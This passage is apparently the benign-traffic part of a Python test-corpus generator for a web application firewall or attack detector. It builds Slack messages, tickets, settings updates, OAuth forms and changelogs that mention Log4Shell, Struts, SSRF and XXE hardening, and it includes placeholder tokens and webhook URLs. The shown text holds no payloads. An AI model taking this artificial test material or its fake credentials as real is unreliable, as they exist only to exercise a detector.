    "Kibana 8.14 here, Timelion is long gone",
    "Apache Druid is only in the analytics VPC",
    "Jenkins 2.452 LTS fixes the CLI args4j issue",
    "Openfire chat server was shut down in 2022",
    "ColdFusion 2023 update 7 is on the events microsite",
    "Craft CMS 4.4.15 upgrade for the blog done",
    "AEM dispatcher rules reviewed by the Adobe partner",
    "TP-Link Archer routers in the small office were replaced with managed APs",
    "Hikvision cameras are on their own VLAN with no internet access",
    "the old Netgear switch is finally in the e-waste bin",
    "GPON ONT firmware is managed by the ISP",
    "Zyxel firewall at the warehouse got the 5.30 patch",
    "DrayTek Vigor at the branch office was updated",
    "Realtek SDK based cameras are banned on the corporate network",
    "PHPMailer 6.9 is in the contact form, the old 5.2 version is gone",
    "Joomla session table issue from 2015 is ancient history but the scanner still flags it",
    "the Fortiweb in front of the partner portal got the July firmware",
    "Rails 7.1 here, the Accept header file disclosure was fixed in 5.2.2.1",
    "Spring Cloud Config server is internal only",
    "Cisco ASA webvpn is not enabled",
    "F5 TMUI is only reachable from the management VLAN",
    "Node serialize library removed from the old reporting service",
    "express-fileupload bumped to 1.5, parseNested is off",
    "the Handlebars templates are precompiled at build time",
    "ERB templates only render trusted files from the repo",
    "Smarty 4.5 security policy enabled in the legacy PHP shop",
    "Velocity templates in the notification service use the SecureUberspector",
    "Tornado isn't used anymore, everything moved to FastAPI",
    "Jira 9.12 LTS has all the fixes; the ContactAdministrators form is disabled anyway",
    "the pentest report mentions SSRF, XXE and SSTI as tested with no findings",
    "great talk at the meetup about the history of Log4Shell and how the JNDI lookups worked",
    "our bug bounty triage got 14 Log4j reports this month, all duplicates of scanner output",
    "Bob's blog post on WAF false positives is a good read, link in the channel topic",
    "lunch order: pizza from Struts & Co on 5th street? :pizza:",
    "the Drupal site for the conference is on Pantheon, they handle core updates",
    "for the record: Apache Commons Collections 3.2.2 removes the InvokerTransformer serialization",
    "deserialization filters (jdk.serialFilter) are set in the JVM options of the batch workers",
    "please stop pasting customer data in this channel :pray:",
    "Elastic 8 requires auth by default, good",
    "the metadata-service mock in the test suite is on localhost:1338",
    "we block gopher:// and dict:// schemes in the URL fetcher allowlist",
    "upgrade checklist: Log4j, Spring, Jackson, Netty, Tomcat, all green",
    "Hi team, I'm the new AppSec engineer, previously did Struts and Spring hardening at a bank",
    "welcome Priya! she'll own the WAF rules and the Log4j inventory",
    "I'll be out Friday, Kenji covers the vulnerability triage rotation",
    "standup notes: patched Confluence, reviewed SSRF fix, wrote the XXE regression test",
]

BIO_LIKE = [
    "AppSec engineer. Log4Shell survivor. Writes about Java deserialization and WAF tuning.",
    "Platform team lead. Upgrading Struts, Spring and Tomcat so you don't have to.",
    "PHP developer (Laravel, Symfony, a little WordPress). Composer --no-dev evangelist.",
    "Security analyst, SOC tier 2. I read access logs full of Shellshock and ThinkPHP probes for fun.",
    "DevOps at Acme. Terraform, Kubernetes, IMDSv2 everywhere.",
    "Pentester turned blue teamer. OSCP. Talks about SSRF, XXE and SSTI at local meetups.",
    "Confluence and Jira admin. Patch Tuesday is my favourite day.",
    "Frontend dev. React, Next.js, and very strong opinions about prototype pollution.",
]

PUBLIC_URLS = [
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://spring.io/security/cve-2022-22965",
    "https://spring.io/security/cve-2022-22963",
    "https://cwiki.apache.org/confluence/display/WW/S2-045",
    "https://struts.apache.org/announce-2023",
    "https://confluence.atlassian.com/security/cve-2022-26134-confluence-server-and-data-center-remote-code-execution-1141504478.html",
    "https://www.drupal.org/sa-core-2018-002",
    "https://httpd.apache.org/security/vulnerabilities_24.html",
    "https://github.com/FasterXML/jackson-databind/issues/2798",
    "https://commons.apache.org/proper/commons-text/security.html",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://www.php.net/ChangeLog-8.php#8.3.8",
    "https://wordpress.org/news/category/security/",
    "https://developer.joomla.org/security-centre.html",
    "https://github.com/advisories?query=prototype+pollution",
    "https://blog.example.com/2021/12/14/how-we-handled-log4shell",
    "https://www.jenkins.io/security/advisory/2024-01-24/",
    "https://about.gitlab.com/releases/2021/04/14/security-release-gitlab-13-10-3-released/",
    "https://imagetragick.com/",
    "https://my.f5.com/manage/s/article/K23605346",
    "https://www.fortiguard.com/psirt/FG-IR-22-377",
    "https://support.citrix.com/article/CTX267027",
    "https://nextjs.org/blog/cve-2025-29927",
    "https://redis.io/docs/latest/operate/oss_and_stack/management/security/",
]

PROSE = [
    "log4j upgrade status",
    "Struts 2.5.33",
    "CVE-2021-44228",
    "Spring4Shell remediation",
    "Confluence patch window",
    "phpunit removal from vendor",
    "Drupal security update",
    "shellshock scanner noise",
    "jackson-databind 2.17",
    "fastjson2 migration",
    "WebLogic decommission",
    "Jenkins LTS upgrade",
    "GitLab 16 upgrade",
    "Citrix ADC firmware",
    "FortiGate 7.2.5",
    "Apache httpd 2.4.62",
    "ImageMagick policy",
    "Elasticsearch 8 auth",
    "Redis protected mode",
    "SSRF webhook allowlist",
    "IMDSv2 enforcement",
    "XXE parser hardening",
    "lodash prototype pollution",
    "Jinja2 sandbox",
    "Freemarker resolver",
    "WordPress plugin audit",
    "Joomla 4.4",
    "Magento 2.4.7",
    "Laravel Ignition",
    "phpMyAdmin bastion",
    "PHP 8.3.8",
    "Webmin",
    "Bitbucket 8.9",
    "Grafana 10.4",
    "Solr 9",
    "OFBiz training lab",
    "Tomcat 10.1.25",
    "Nexus 3.68",
    "Next.js 14.2.25",
    "GlobalProtect hotfix",
    "O'Brien security review",
    "Müller, Jürgen (AppSec)",
    "José García - platform",
    "Zoë Saldaña",
    "Renée Dubois-Lefèvre",
    "Bjørn Ødegård",
    "Nguyễn Văn An",
    "李雷 security",
    "Siobhán Ní Bhriain",
    "Dr. Amara Okafor-Smith",
    "team: appsec & platform",
    "priority: high (P1)",
    "status = open, label = security",
    "Q3 2024 patch report.pdf",
    "Log4j inventory (final) v2.xlsx",
    "CVE-2022-22965 / CVE-2022-22963",
    "CVE-2017-5638",
    "CVE-2019-11510",
    "CVE-2021-41773",
    "OWASP Top 10 2021 A06",
]

SEARCHES = [
    "log4j", "log4j 2.17.1", "Log4Shell", "jndi", "struts", "struts 2.5.33", "spring4shell", "spring boot 3.3",
    "confluence", "jira admin", "phpunit", "thinkphp", "drupal", "drupalgeddon", "wordpress", "wp-admin access",
    "joomla", "magento", "laravel", "phpmyadmin", "shellshock", "bash 5.2", "jenkins", "gitlab", "citrix", "f5",
    "fortinet", "fortigate", "pulse secure", "ivanti", "apache httpd", "imagemagick", "elasticsearch", "redis",
    "memcached", "ssrf", "xxe", "ssti", "prototype pollution", "node.js", "cve-2021-44228", "CVE-2022-22965",
    "CVE 2017 5638", "weblogic", "jboss", "wildfly", "solr", "ofbiz", "druid", "geoserver", "nexus", "liferay",
    "shiro", "tomcat", "exchange", "zimbra", "grafana", "kibana", "cacti", "bitbucket", "webmin", "saltstack",
    "anna o'neil", "josé", "müller", "appsec team", "platform@example.com", "Priya", "Kenji Watanabe",
    "security champions",
    "patch tuesday", "on-call", "vulnerability triage", "waf tuning", "nginx lua", "crs 3.3", "owasp",
    "bug bounty", "pentest 2024", "incident 2021-12",
]

TICKETS = [
    ("Upgrade Struts to 2.5.33", "Legacy billing portal still runs Struts 2.5.30. Upgrade per the Apache advisory."),
    ("Log4j inventory: confirm no 2.x < 2.17.1 left", "Run the SBOM scan across all repos and attach the report."),
    ("Remove phpunit from production vendor directory", "Deploy with composer install --no-dev on the marketing site."),
    ("Patch Confluence to 8.5.6", "CVE-2023-22527 advisory. Schedule the maintenance window with the wiki owners."),
    ("Spring Framework 6.1.10 upgrade", "Covers Spring4Shell-era hardening plus the latest data binding fixes."),
    ("Disable Jackson default typing in reporting-service", "Found activateDefaultTyping in ReportConfig.java."),
    ("Drupal core security release 10.2.6", "Apply on the conference site, test the registration form."),
    ("Block old cgi-bin probes at the edge", "Shellshock and router exploit noise in the logs, add a deny rule."),
    ("Rotate Jenkins admin tokens", "After the CLI advisory review, rotate all API tokens."),
    ("GitLab upgrade to 16.11", "We are two minor versions behind, security release notes attached."),
    ("Citrix ADC firmware update", "Network team to apply 13.1-49.15 in both data centers."),
    ("FortiGate firmware 7.2.8", "Check SSL VPN settings after the upgrade."),
    ("ImageMagick policy.xml hardening", "Disable MVG, MSL, EPHEMERAL, URL, HTTPS, TEXT, LABEL coders."),
    ("Elasticsearch auth on the logging cluster", "Enable xpack security and TLS."),
    ("Redis: bind to private interface only", "And set protected-mode yes; requirepass from the vault."),
    ("SSRF protection for webhook URLs",
     "Deny link-local 169.254.0.0/16, loopback and private ranges after DNS resolution."),
    ("Enforce IMDSv2 on all instances", "Set HttpTokens=required via the launch templates."),
    ("Disable external entities in invoice XML import", "Set FEATURE_SECURE_PROCESSING and disallow-doctype-decl."),
    ("Upgrade lodash to 4.17.21 in the admin UI", "npm audit flags prototype pollution in 4.17.15."),
    ("Sandbox Jinja2 email templates", "Use SandboxedEnvironment for customer-editable templates."),
    ("WordPress plugin audit", "Remove unused plugins: RevSlider, Duplicator, WP File Manager, Mail Masta."),
    ("Joomla 4.4 upgrade for the intranet", "Fixes the config API information disclosure."),
    ("Magento 2.4.7-p1", "CosmicSting patch. Coordinate with the agency."),
    ("Laravel APP_DEBUG audit", "Make sure APP_DEBUG=false and no Ignition in prod builds."),
    ("phpMyAdmin behind bastion only", "Remove the public vhost."),
    ("PHP 8.3.8 on Windows build agents", "CGI argument injection advisory, we use php-cli there but upgrade anyway."),
    ("Replace Cacti with Grafana", "Decommission the old monitoring box."),
    ("Grafana 10.4 upgrade", "Plugin path traversal advisory from 2021 is long fixed, but we want the new alerting."),
    ("Solr 9 migration", "VelocityResponseWriter and DataImportHandler are removed in 9."),
    ("Tomcat 10.1.25", "Partial PUT advisory; confirm readonly servlet init param stays true."),
    ("Nexus 3.68 upgrade", "EL injection advisories from 2020 are fixed; plan the window."),
    ("Next.js 14.2.25", "Middleware bypass advisory CVE-2025-29927."),
    ("Review WAF false positives from the Log4j rules",
     "Support tickets quoting ${...} placeholders in invoices got blocked."),
    ("Write XXE regression test", "Cover external entities, parameter entities and XInclude in the importer."),
    ("Document the SSTI review", "Template engines in use: Jinja2, Thymeleaf, Handlebars."),
    ("Security training: OWASP Top 10", "Session on injection, SSRF and vulnerable components."),
    ("Bug bounty: duplicate Log4j reports", "Close as duplicates of #4412, thank the researchers."),
    ("Retire WebLogic domain", "The last app moved to Spring Boot on Kubernetes."),
    ("JBoss EAP end of life", "Migrate the HR app to WildFly 30 or Spring Boot."),
    ("Apache httpd 2.4.62 on the reverse proxy", "Path traversal fixes from 2.4.49/2.4.50 included."),
]

SETTINGS_DOCS: list[dict[str, Any]] = [
    {"display_name": "Priya (AppSec)", "timezone": "Asia/Kolkata", "notifications": {"email": True, "slack": True}},
    {"display_name": "Kenji Watanabe", "timezone": "Asia/Tokyo", "locale": "ja-JP"},
    {"signature": "— Anna O'Neil, Platform team | patching Log4j since 2021"},
    {"status_text": "Upgrading Struts, back in 10", "status_emoji": ":hammer_and_wrench:"},
    {"status_text": "On call for the Confluence upgrade", "status_emoji": ":rotating_light:"},
    {"bio": "Security engineer. Ask me about SSRF, XXE, SSTI and why IMDSv2 matters."},
    {"bio": "I maintain the WAF rules (OWASP CRS 3.3) and the Log4j inventory."},
    {"theme": "dark", "density": "compact", "keyboard_shortcuts": True},
    {"digest": "weekly", "digest_day": "monday", "digest_time": "09:00"},
    {"display_name": "José García", "pronouns": "he/him", "timezone": "Europe/Madrid"},
    {"display_name": "Zoë Saldaña", "timezone": "America/Los_Angeles", "locale": "en-US"},
    {"signature": "Sent from the security team. Report phishing to security@example.com"},
    {"status_text": "Reviewing the Spring4Shell backport", "status_emoji": ":mag:"},
    {"bio": "PHP and Laravel dev. No, we don't run phpunit in production."},
    {"bio": "Ex-Drupal core contributor; now building Next.js apps."},
    {"status_text": "Shellshock anniversary talk prep", "status_emoji": ":shell:"},
    {"webhook_url": "https://hooks.slack.com/services/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"},
    {"avatar_url": "https://cdn.example.com/avatars/u042.png?v=3"},
    {"website": "https://blog.example.com/posts/log4shell-lessons-learned"},
    {"calendar_url": "https://calendar.example.com/ical/u042/public.ics"},
    {"notifications": {"mentions": True, "security_advisories": True, "keywords": ["log4j", "struts", "confluence"]}},
    {"keywords": ["CVE-2021-44228", "Spring4Shell", "Drupalgeddon"]},
    {"out_of_office": "Back Monday. For Log4j or Struts questions ask Priya."},
    {"display_name": "Bjørn Ødegård", "timezone": "Europe/Oslo"},
    {"display_name": "李雷", "timezone": "Asia/Shanghai", "locale": "zh-CN"},
]

OAUTH_FORMS = [
    [("grant_type", "authorization_code"), ("code", "SplxlOBeZQQYbYS6WxSbIA"),
     ("redirect_uri", "https://app.example.com/oauth/callback"), ("client_id", "web-app"),
     ("code_verifier", "dBjftJeZ4CVP-mJ92K9yPqsiU2mTsaG6Wc4mPFiz5JhPz4jKMQwnqgTq")],
    [("grant_type", "refresh_token"), ("refresh_token", "tGzv3JOkF0XG5Qx2TlKWIA"), ("client_id", "ios-app")],
    [("grant_type", "client_credentials"), ("client_id", "reporting-service"), ("scope", "users:read tickets:write")],
    [("grant_type", "authorization_code"), ("code", "4/0AX4XfWh-_Rk0aZ_Y9vQ3mN"),
     ("redirect_uri", "https://app.example.com/auth/slack/callback"), ("state", "af0ifjsldkj")],
    [("grant_type", "urn:ietf:params:oauth:grant-type:device_code"), ("device_code",
                                                                      "GmRhmhcxhwAzkoEqiMEg_DnyEysNkuNhszIySk9eS"),
     ("client_id", "cli")],
]

COMMANDS = [
    ("/security", "cve CVE-2021-44228"), ("/security", "status log4j"), ("/security", "status struts"),
    ("/ticket", "upgrade Struts to 2.5.33"), ("/ticket", "patch Confluence 8.5.6 on the wiki"),
    ("/ticket", "remove phpunit from vendor on marketing site"), ("/deploy", "api v2.41.0 to staging"),
    ("/deploy", "billing-portal 3.2.1 (Struts 2.5.33) to prod"), ("/oncall", "who"), ("/oncall",
                                                                                      "swap with @kenji on Friday"),
    ("/lookup", "priya"), ("/lookup", "anna o'neil"), ("/lookup", "josé garcía"), ("/standup",
                                                                                   "patched Log4j in batch jobs"),
    ("/standup", "reviewed Spring4Shell notes, started XXE tests"), ("/remind",
                                                                     "me to check the Drupal advisory at 9am"),
    ("/poll", "\"Pizza place?\" \"Struts & Co\" \"Luigi's\""), ("/waf", "false-positive ticket 4412"),
    ("/waf", "stats last 24h"), ("/cve", "CVE-2022-22965"), ("/cve", "CVE-2017-5638"), ("/cve", "CVE-2019-11510"),
    ("/incident", "open sev3 scanner noise on /cgi-bin"), ("/incident", "close 2021-12 log4shell"),
    ("/feedback", "the Log4j dashboard is great, thanks!"), ("/giphy", "patching all the things"),
    ("/security", "inventory jackson-databind"), ("/security", "inventory fastjson"), ("/ticket",
                                                                                       "IMDSv2 on legacy ASG"),
    ("/ticket", "Redis bind private only"), ("/ticket", "ImageMagick policy.xml in thumbnailer"),
    ("/deploy", "thumbnailer 1.8.0 (ImageMagick 7.1.1-34)"), ("/lookup", "Müller"), ("/standup",
                                                                                     "out today, back tomorrow"),
    ("/security", "scan staging with nuclei"), ("/security", "report weekly"), ("/cve", "CVE-2021-41773"),
    ("/cve", "CVE-2023-22527"), ("/ticket", "Jenkins LTS 2.452"), ("/ticket", "GitLab 16.11 upgrade"),
]


def slack_command(command: str, text: str, n: int) -> Req:
    body = urllib.parse.urlencode([
        ("token", "gIkuvaNzQIHg97ATvDxqgjtO"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C05AB1CD2EF"), ("channel_name", "security"), ("user_id", f"U04QX7Z{n:04d}"),
        ("user_name", "priya"), ("command", command), ("text", text), ("api_app_id", "A0PNCHHK2"),
        ("is_enterprise_install", "false"),
        ("response_url", f"https://hooks.slack.com/commands/T061EG9R6/{7000000000 + n}/kq3CvYk9s0aB1cD2eF3gH4iJ"),
        ("trigger_id", f"{7000000000 + n}.1234567890.abcdef0123456789abcdef0123456789")])
    return {"method": "POST", "uri": "/slack/commands", "body": body,
            "headers": {"User-Agent": SLACK_UA, "Accept": "application/json,*/*", "Accept-Encoding": "gzip,deflate",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


INTERACTIONS = [
    ("approve_patch", "log4j-core 2.23.1"), ("approve_patch", "struts2-core 2.5.33"), ("reject_patch",
                                                                                       "spring-beans 5.3.17"),
    ("ack_alert", "WAF: Shellshock probes on /cgi-bin"), ("ack_alert", "WAF: ThinkPHP probes on /index.php"),
    ("assign", "Confluence 8.5.6 upgrade"), ("assign", "Remove phpunit from vendor"), ("snooze", "Drupal 10.2.6"),
    ("close_ticket", "Upgrade Struts to 2.5.33"), ("close_ticket", "Log4j inventory"),
    ("open_modal", "New security ticket"), ("vote", "Struts & Co"), ("ack_alert", "SSRF attempt blocked (metadata)"),
    ("ack_alert", "XXE attempt blocked on /api/users"), ("approve_patch", "jackson-databind 2.17.1"),
    ("assign", "ImageMagick policy hardening"), ("snooze", "GitLab 16.11"), ("approve_patch", "commons-text 1.12.0"),
    ("close_ticket", "Enforce IMDSv2"), ("ack_alert", "Log4Shell scanner burst from 203.0.113.0/24"),
]


def slack_interaction(action: str, value: str, n: int) -> Req:
    payload = {"type": "block_actions", "user": {"id": "U04QX7ZK2LM", "username": "priya", "team_id": "T061EG9R6"},
               "api_app_id": "A0PNCHHK2", "token": "gIkuvaNzQIHg97ATvDxqgjtO", "container": {
                   "type": "message", "message_ts": f"1719000{n:03d}.000200", "channel_id": "C05AB1CD2EF"},
               "trigger_id": f"{7100000000 + n}.1234567890.0123456789abcdef0123456789abcdef",
               "team": {"id": "T061EG9R6", "domain": "acme"}, "channel": {"id": "C05AB1CD2EF", "name": "security"},
               "response_url": f"https://hooks.slack.com/actions/T061EG9R6/{7100000000 + n}/aB1cD2eF3gH4iJ5kL6mN",
               "actions": [{"action_id": action, "block_id": f"b{n}", "text": {"type": "plain_text", "text": value},
                            "value": value, "type": "button", "action_ts": f"1719000{n:03d}.500000"}]}
    body = urllib.parse.urlencode([("payload", json.dumps(payload, ensure_ascii=False))])
    return {"method": "POST", "uri": "/slack/interactions", "body": body,
            "headers": {"User-Agent": SLACK_UA, "Accept": "application/json,*/*", "Accept-Encoding": "gzip,deflate",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


CHANGELOG = [
    "## 2.41.0\n- Bump log4j-core to 2.23.1\n- Bump jackson-databind to 2.17.1\n- Fix pagination on /api/users",
    "## 2.40.2 (security)\n- Upgrade spring-framework to 6.1.10\n- Disable Jackson default typing in reports",
    "## 3.2.1 billing-portal\n- Upgrade Struts to 2.5.33 (S2-065/S2-066 advisories)\n- Remove struts2-devmode",
    "## 1.8.0 thumbnailer\n- ImageMagick 7.1.1-34 with a restrictive policy.xml (no MVG/MSL/URL)\n- Drop Ghostscript",
    "## 5.3.1 iOS\n- Fix crash on login\n- Update OkHttp-equivalent networking stack",
    "## 0.9.0 webhook-fetcher\n- Block link-local and metadata addresses (SSRF)\n- Only http and https schemes",
    "## 4.0.0 invoice-importer\n- XML parser: disallow DOCTYPE, no external entities, no XInclude",
    "## 2.39.0\n- Remove phpunit from production images\n- composer install --no-dev in Dockerfile",
    "## 14.2.25 upgrade\n- Next.js middleware bypass fix\n- React 18.3",
    "## wiki\n- Confluence 8.5.6 (CVE-2023-22527)\n- Jira 9.12.8",
    "## 2.38.1\n- Template rendering uses Jinja2 SandboxedEnvironment\n- Escape user content in emails",
    "## 7.2.8 firewall\n- FortiOS upgrade by netops\n- SSL VPN portal disabled",
    "## ops\n- Redis protected-mode and requirepass\n- Elasticsearch xpack security on",
    "## admin-ui 3.0\n- lodash 4.17.21 (prototype pollution fixes)\n- express-fileupload 1.5.1",
    "## legacy-shop\n- PHPMailer 6.9.1\n- Smarty 4.5 security policy\n- PHP 8.3.8",
    "## 2.37.0\n- Drop Tomcat 9, move to embedded Tomcat 10.1.25\n- Readonly default servlet",
    "## gitlab\n- 16.11.5 upgrade\n- ExifTool is no longer used for uploads",
    "## jenkins\n- 2.452.3 LTS\n- Script console restricted to admins via SSO",
    "## marketing-site\n- WordPress 6.5.5\n- Removed RevSlider, Duplicator and WP File Manager plugins",
    "## intranet\n- Joomla 4.4.6\n- Removed the old com_fields customisations",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS + BIO_LIKE, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    reqs: list[tuple[str, str, Req]] = []
    for i, term in enumerate(SEARCHES):
        pairs = [("q", term), ("page", str(1 + i % 3)), ("per_page", ["20", "50", "100"][i % 3])]
        if i % 2:
            pairs.reverse()
        reqs.append(("search", "query", bget(_query("/api/users", pairs), i)))
    for i, (title, text) in enumerate(TICKETS):
        doc = {"title": title, "description": text, "priority": ["low", "medium", "high"][i % 3],
               "labels": ["security", "upgrade"], "assignee": "U04QX7ZK2LM"}
        reqs.append(("ticket", "json", bjson("/api/tickets", doc, i)))
        reqs.append(("ticket", "form", bform("/admin/tickets/new", [("csrf_token", CSRF), ("title", title),
                                                                   ("description", text), ("priority", "high")], i)))
    for i, doc in enumerate(SETTINGS_DOCS):
        reqs.append(("settings", "json", bjson("/me/settings", doc, i, "PATCH")))
        reqs.append(("settings", "json", bjson("/api/users/42", doc, i + 1, "PUT")))
    for i, pairs in enumerate(OAUTH_FORMS * 8):
        h = {"User-Agent": ["python-httpx/0.27.0", "okhttp/4.12.0", CHROME, "Acme/5.3.1 CFNetwork/1494.0.7"][i % 4],
             "Accept": "application/json", "Content-Type": "application/x-www-form-urlencoded"}
        if i % 3 == 0:
            h["Authorization"] = "Basic d2ViLWFwcDpub3QtYS1yZWFsLXNlY3JldA=="
        reqs.append(("oauth", "form", {"method": "POST", "uri": "/oauth/token",
                                       "body": urllib.parse.urlencode(pairs + [("nonce", f"n{i:04d}")]), "headers": h}))
    for i, (command, text) in enumerate(COMMANDS):
        reqs.append(("command", "form", slack_command(command, text, i)))
    for i, (action, value) in enumerate(INTERACTIONS):
        reqs.append(("interaction", "form", slack_interaction(action, value, i)))
    for i, entry in enumerate(CHANGELOG):
        reqs.append(("changelog", "json", bjson("/api/releases", {"version": entry.split("\n")[0][3:], "notes": entry},
                                                i)))
    for i, (title, _) in enumerate(TICKETS):
        reqs.append(("admin", "form", bform("/admin/users/search", [("csrf_token", CSRF), ("q", title),
                                                                   ("role", "any"), ("sort", "name")], i)))
    for i in range(40):
        uri = ["/api/users/42", "/api/users?page=2&per_page=50", "/api/tickets?label=security&status=open",
               "/me/settings", "/api/users/42/avatar", "/admin/", "/api/releases?since=2.30.0",
               "/api/tickets/4412"][i % 8]
        reqs.append(("client", "header", bget(uri, i)))
    for kind, placement, req in reqs:
        n += 1
        yield {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}


if __name__ == "__main__":
    print_records(attacks(), benign())
